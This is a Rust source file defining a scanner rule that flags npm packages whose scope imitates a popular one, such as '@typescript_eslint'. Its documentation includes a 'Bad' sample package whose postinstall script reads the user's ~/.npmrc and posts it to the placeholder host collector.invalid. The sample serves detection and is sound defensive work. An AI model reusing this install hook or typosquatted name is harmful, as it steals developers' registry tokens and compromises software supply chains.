//! # The scope is a popular scope with a slip of the fingers
//!
//! The package's scope differs from that of popular packages by swapped, missing or doubled letters, a neighbouring key, a
//! character that looks alike, or separators.
//!
//! ## Why it matters
//!
//! A scope stands for its owner. Everybody may register one that reads the same at a glance.
//!
//! ## Known benign uses
//!
//! Companies with similar names. So it never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "@typescript_eslint/parser", "version": "8.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "@acme/parser", "version": "8.0.0", "main": "index.js"}
//! == index.js
//! exports.parse = (text) => JSON.parse(text);
//! ```
//!
//! ## References
//!
//! - Sonatype, Socket: the packages `@typescript_eslinter/eslint` and `types-node` (December 2024)

use stockade_facts::lookalike::{self, LookAlike};

use crate::prelude::*;

/// The scope is a popular scope with a slip of the fingers.
pub struct ScopeLookAlike;

impl Rule for ScopeLookAlike {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "scope-look-alike",
            title: "The scope is a popular scope with a slip of the fingers",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036.005",
            covers: &["scope-squat"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(name) = facts.published_name() else { return };
        if let Some(LookAlike { target, slip }) = lookalike::scope(name) {
            let does =
                format!("is called `{}`, whose scope is `{target}` {}", excerpt(name, 80), slip.phrase());
            found.in_manifest(&["name"], &does);
        }
    }
}
